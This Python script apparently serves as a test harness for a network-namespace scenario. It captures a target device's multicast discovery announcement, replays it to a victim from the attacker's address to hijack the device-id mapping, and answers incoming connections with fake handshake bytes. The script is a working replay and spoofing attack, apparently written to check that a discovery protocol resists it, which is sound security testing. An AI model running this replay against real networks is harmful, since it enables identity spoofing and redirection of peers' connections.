#!/usr/bin/env python3
"""Replay attacker for the netns identity scenario.

Captures one genuine discovery announcement of a target device from the
multicast group, replays it unchanged by unicast to a victim from the
attacker's own address (so the victim's peer table may point the target's
device id at the attacker), and listens on the announced session port to
see whether the victim connects. It cannot produce the target's Noise
handshake (it lacks the target's static key); it answers with random bytes
framed like a record. Every wait is bounded.

Writes lines to --out: "captured <len>", "replayed", "connection <peer>".
"""
import argparse
import os
import select
import socket
import struct
import sys
import time

GROUP = "239.255.70.83"


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--my-ip", required=True)
    ap.add_argument("--target-ip", required=True)
    ap.add_argument("--victim-ip", required=True)
    ap.add_argument("--disc-port", type=int, default=47083)
    ap.add_argument("--session-port", type=int, default=7440)
    ap.add_argument("--seconds", type=float, default=120)
    ap.add_argument("--out", required=True)
    a = ap.parse_args()
    out = open(a.out, "a", buffering=1)
    deadline = time.monotonic() + a.seconds

    rx = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    rx.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    rx.bind(("", a.disc_port))
    mreq = socket.inet_aton(GROUP) + socket.inet_aton(a.my_ip)
    rx.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, mreq)

    lst = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    lst.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    lst.bind((a.my_ip, a.session_port))
    lst.listen(8)

    tx = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    tx.bind((a.my_ip, 0))

    captured = None
    last_replay = 0.0
    while time.monotonic() < deadline:
        r, _, _ = select.select([rx, lst], [], [], 0.2)
        if rx in r:
            data, src = rx.recvfrom(2048)
            # Keep the first announcement (type byte 1) from the target.
            if captured is None and src[0] == a.target_ip and len(data) > 2 \
                    and data[1] == 1:
                captured = data
                out.write("captured %d\n" % len(data))
        if lst in r:
            conn, peer = lst.accept()
            out.write("connection %s\n" % peer[0])
            conn.settimeout(2)
            try:
                conn.recv(4096)
                junk = os.urandom(177)  # exactly the size of a real message 2
                conn.sendall(struct.pack(">H", len(junk)) + junk)
                conn.recv(4096)
            except OSError:
                pass
            conn.close()
        # Replay the captured datagram once a second: the same bytes, so the
        # same sequence number, from the attacker's address.
        if captured is not None and time.monotonic() - last_replay > 1.0:
            tx.sendto(captured, (a.victim_ip, a.disc_port))
            last_replay = time.monotonic()
            out.write("replayed\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
